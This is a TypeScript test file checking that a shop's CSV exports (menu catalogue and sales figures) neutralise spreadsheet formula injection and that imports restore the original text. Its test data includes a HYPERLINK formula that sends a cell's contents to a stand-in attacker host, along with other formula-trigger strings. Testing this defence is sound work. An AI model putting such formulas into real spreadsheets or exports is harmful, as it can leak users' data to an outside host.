import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Figures } from '@bakje/contract';
import { figuresCsv } from '../src/modules/figures/figures-csv.js';
import { catalogueToCsv, planRows, readCsv, type ExportedProduct } from '../src/modules/menu-transfer/woocommerce-csv.js';
import { spreadsheetCsv, unescapeFormula } from '../src/spreadsheet-csv.js';

/*
 * D2 of issue 33 (docs/decisions/0075-security-defects-d1-d6.md): a cell a spreadsheet would run as a formula
 * is written as text on every CSV export, numbers stay numbers, and the menu import reads the text back as it was.
 */

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")';
const FORMULAS = [HYPERLINK, '=1+1', '+32 470 12 34 56', '-Korting', '@SUM(A1:A2)', '\tTab', '\rReturn', '\uFF1D1+1'];

const product = (id: number, name: string, extra: Partial<ExportedProduct> = {}): ExportedProduct => ({
  id,
  type: 'simple',
  sku: `SKU-${id}`,
  name,
  status: 'publish',
  featured: false,
  catalog_visibility: 'visible',
  short_description: '',
  description: '',
  date_on_sale_from: null,
  date_on_sale_to: null,
  stock_status: 'instock',
  manage_stock: false,
  stock_quantity: null,
  sale_price: '',
  regular_price: '3.50',
  menu_order: 0,
  categories: [{ path: 'Snacks' }],
  images: [],
  attributes: [],
  allergens: [],
  max_quantity: null,
  is_promotion: false,
  meta_data: [],
  variations: [],
  ...extra,
});

describe('CSV cells a spreadsheet would run (D2)', () => {
  it('the shared writer prefixes text cells starting with = + - @ tab or CR, and leaves numbers alone', () => {
    const csv = spreadsheetCsv([[...FORMULAS, -3, 'Frikandel']]);
    const [cells] = parse(csv.slice(1), { relax_quotes: true }) as string[][];
    expect(cells!.slice(0, FORMULAS.length)).toEqual(FORMULAS.map((text) => `'${text}`));
    expect(cells!.slice(FORMULAS.length)).toEqual(['-3', 'Frikandel']);
    for (const text of [...FORMULAS, 'Frikandel', "'quoted"]) expect(unescapeFormula(spreadsheetCell(text))).toBe(text);
  });

  it('the menu export writes product names as text, a negative stock and position as numbers; its import reads the names back as text', () => {
    const products = FORMULAS.map((name, index) =>
      product(index + 1, name, { short_description: index === 0 ? '-kort' : '', manage_stock: true, stock_quantity: -3, menu_order: -1 }),
    );
    const csv = catalogueToCsv(products);
    const records = parse(csv.slice(1), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.Name)).toEqual(FORMULAS.map((name) => `'${name}`));
    expect(records[0]!['Short description']).toBe("'-kort");
    expect(records.map((r) => r.Stock)).toEqual(FORMULAS.map(() => '-3'));
    expect(records.map((r) => r.Position)).toEqual(FORMULAS.map(() => '-1'));

    const read = readCsv(csv);
    expect(read.problems).toEqual([]);
    const { planned, problems } = planRows(read.rows);
    expect(problems).toEqual([]);
    const bodies = planned.map((p) => (p.kind === 'product' ? p.body : undefined));
    expect(bodies.map((b) => b?.name)).toEqual(FORMULAS.map((name) => name.trim()));
    expect(bodies[0]).toMatchObject({ short_description: '-kort', stock_quantity: -3, menu_order: -1 });
  });

  it('the figures CSV writes names as text and refunds as negative numbers', () => {
    const figures: Figures = {
      from: '2026-11-28',
      to: '2026-11-28',
      timeZone: 'Europe/Brussels',
      orders: 2,
      gross: 750,
      tax: 42,
      net: 708,
      average: 500,
      vat: [{ rate: 6, net: 708, tax: 42, gross: 750 }],
      refunds: { count: 1, gross: -250, tax: -14, net: -236, vat: [{ rate: 6, net: -236, tax: -14, gross: -250 }] },
      byChannel: [{ key: 'web', orders: 2, gross: 1000 }],
      byFulfilment: [{ key: 'takeaway', orders: 2, gross: 1000 }],
      byPayment: [{ key: '@Kaart', orders: 2, gross: 1000 }],
      giftCardsSold: { count: 0, amount: 0 },
      cashRounding: -2,
      series: [{ key: '12', orders: 2, gross: 1000 }],
      bestSellers: [{ name: HYPERLINK, quantity: 2, gross: 1000 }],
      busiestSlots: [{ slot: '12:00-12:15', orders: 2 }],
      excluded: { cancelled: { orders: 0, gross: 0 }, test: { orders: 0, gross: 0 }, pending: { orders: 0, gross: 0 } },
    };
    const text = figuresCsv(figures);
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""klik"")";2;10,00\r\n`);
    expect(text).toContain("'@Kaart;2;10,00\r\n");
    expect(text).toContain('Tarief %;Maatstaf (excl. btw);Btw;Totaal incl. btw\r\n6;-2,36;-0,14;-2,50\r\n');
    expect(text).toContain('2;7,50;0,42;7,08;5,00\r\n');
    expect(text).toContain('Afronding contante betalingen (buiten btw, niet in de omzet)\r\nBedrag\r\n-0,02\r\n');
    expect(text).toContain('Geannuleerd;0;0,00\r\n');
  });
});

/** One text cell as the shared writer writes it (no quotes: none of these needs them). */
function spreadsheetCell(text: string): string {
  const [cells] = parse(spreadsheetCsv([[text]]).slice(1), { relax_quotes: true }) as string[][];
  return cells![0]!;
}
